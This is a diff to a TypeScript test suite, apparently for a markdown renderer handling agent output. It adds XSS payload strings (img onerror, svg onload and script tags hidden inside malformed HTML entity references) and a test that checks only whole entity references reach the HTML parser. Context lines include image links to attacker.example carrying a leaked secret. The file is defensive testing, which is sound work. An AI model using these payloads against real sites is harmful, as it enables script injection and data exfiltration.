@@ -58,6 +58,15 @@ const PAYLOADS = [
   '![alt][img]\n\n[img]: https://attacker.example/ref.png?leak=secret',
   '[![img](https://attacker.example/in-link.png)](https://example.com)',
   '&lt;script&gt;window.pwned=1&lt;/script&gt;',
+  // References go to the browser's HTML parser: markup dressed as one must not.
+  '&<img src=x onerror="window.pwned=1">;',
+  '&amp<img src=x onerror="window.pwned=1">;',
+  '&#<script>window.pwned=1</script>;',
+  '&lt;img src=x onerror="window.pwned=1"&gt; &amp;lt;b&amp;gt;',
+  `&${'a'.repeat(40)}<img src=x onerror="window.pwned=1">;`,
+  '[x](/a&<img src=x onerror="window.pwned=1">; "&<b onclick=x>;")',
+  '[x]\n\n[x]: /u&<svg onload="window.pwned=1">; "t&<b>;"',
+  '```&<img src=x onerror="window.pwned=1">;\ncode\n```',
   '[id](#x) <a name="x" id="clobber">',
 ];
 
@@ -119,6 +128,27 @@ describe('agent output cannot run script or leak data', () => {
     }
     await new Promise((r) => setTimeout(r, 20));
     expect(win.pwned).toBe(0);
+  });
+
+  it('hands the HTML parser that decodes references one whole reference, nothing else', () => {
+    const proto = HTMLTextAreaElement.prototype;
+    const inner = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML')!;
+    const seen: string[] = [];
+    Object.defineProperty(proto, 'innerHTML', {
+      configurable: true,
+      get: inner.get,
+      set(this: Element, v: string) {
+        seen.push(v);
+        inner.set!.call(this, v);
+      },
+    });
+    try {
+      PAYLOADS.forEach(renders);
+    } finally {
+      Reflect.deleteProperty(proto, 'innerHTML');
+    }
+    expect(seen).toContain('&lt;');
+    for (const v of seen) expect(v).toMatch(/^&(?:#[xX][\da-fA-F]{1,6}|#\d{1,7}|[A-Za-z][A-Za-z\d]{1,31});$/);
   });
 
   it('renders a refused link as its text, without an anchor', () => {
